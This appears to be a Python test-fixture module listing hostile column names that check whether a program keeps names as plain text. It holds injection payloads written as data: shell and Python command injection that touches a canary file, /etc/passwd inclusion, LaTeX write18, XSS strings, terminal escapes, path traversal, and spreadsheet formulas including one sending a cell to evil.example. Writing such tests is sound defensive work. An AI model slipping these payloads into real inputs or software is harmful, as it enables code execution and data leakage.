"""Names of columns that would run, break or fake something if they were more than text."""

#: A file that code in a name would make, in the folder where it runs.
CANARY = "pwned"

#: What a name attacks, and the name.
HOSTILE_NAMES = {
    # Strings and comments of programming languages, and code behind them.
    "quotes": "a'b\"c`d",
    "backslash": "\\",
    "backslash at the end": "a\\",
    "ends of lines": "a\nb\r\n\nc",
    "line separators": "a\u2028b\u2029c\x85d",
    "comment of C": "*/ int evil(void) { return 1; } /*",
    "comment to the end of the line": "// -- # %",
    "string of Python": '"""\nimport os\n"""',
    "trigraph": "??/",
    "format": "{0} {name} %s %n ${HOME}",
    "shell": f"$(touch {CANARY}) `touch {CANARY}`; touch {CANARY}",
    "import of Python": f"__import__('os').system('touch {CANARY}')",
    "statement of Python": f"x'); open('{CANARY}', 'w'); ('",
    "include of C": '\n#include "/etc/passwd"\n',
    "command of Macaulay2": f'x; run "touch {CANARY}"; --',
    "command of Singular": f'x); system("sh", "touch {CANARY}"); //',
    # Words that mean something.
    "word of C": "double",
    "word of Python": "lambda",
    "function of Python": "open",
    "dunder": "__builtins__",
    "word of Julia": "function",
    "word of Singular": "ring",
    "word of Macaulay2": "ideal",
    "constant": "pi",
    "Euler's number": "E",
    "imaginary unit": "I",
    "not a number": "nan",
    "number": "3",
    # LaTeX and MathML.
    "input of LaTeX": r"\input{secret}",
    "write18": rf"\immediate\write18{{touch {CANARY}}}",
    "output of LaTeX": rf"}}\immediate\openout1={CANARY}\immediate\write1{{x}}{{",
    "link of LaTeX": r"\href{javascript:window.__pwned=1}{x}",
    "dollars": "$$ a $ b",
    "mathtext": r"$\undefined{$",
    "signs of LaTeX": "a_b^c~d%e&f#g{h",
    "closing brace": "}",
    "MathML": "</mi></math><mglyph><style><img src=x onerror=window.__pwned=1>",
    # Pages.
    "script": "</script></style></title><script>window.__pwned=1</script>",
    "image": '"><img src=x onerror="window.__pwned=1">',
    "attribute": "\" onmouseover='window.__pwned=1' x=\"",
    "address": "javascript:window.__pwned=1",
    "entity": "&lt;b&gt; &#0; &amp",
    "comment of HTML": "--><!-- <![CDATA[",
    # Terminals.
    "null": "a\x00b",
    "color": "\x1b[31mred\x1b[2J",
    "link of terminals": "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "CSI in one character": "\x9b31m",
    "right to left": "a\u202ecba\u202c \u2066x\u2069",
    "tab and bell": "a\tb\ac\b\b",
    # Spreadsheets.
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "wide equals sign": "＝1+1",
    # Names that look alike, or become alike.
    "blank": " ",
    "Latin": "cafe\u0301",
    "composed": "caf\u00e9",
    "Cyrillic a": "\u0430",
    "a": "a",
    "A": "A",
    "zero width": "a\u200b",
    "ligature": "\ufb01t",
    "wide": "ｆｉｔ",
    "default": "x1",
    "index of a default": "x01",
    # Paths.
    "path": "../../pwned",
    "device": "/dev/stdin",
    "long": "n" * 100_000,
}
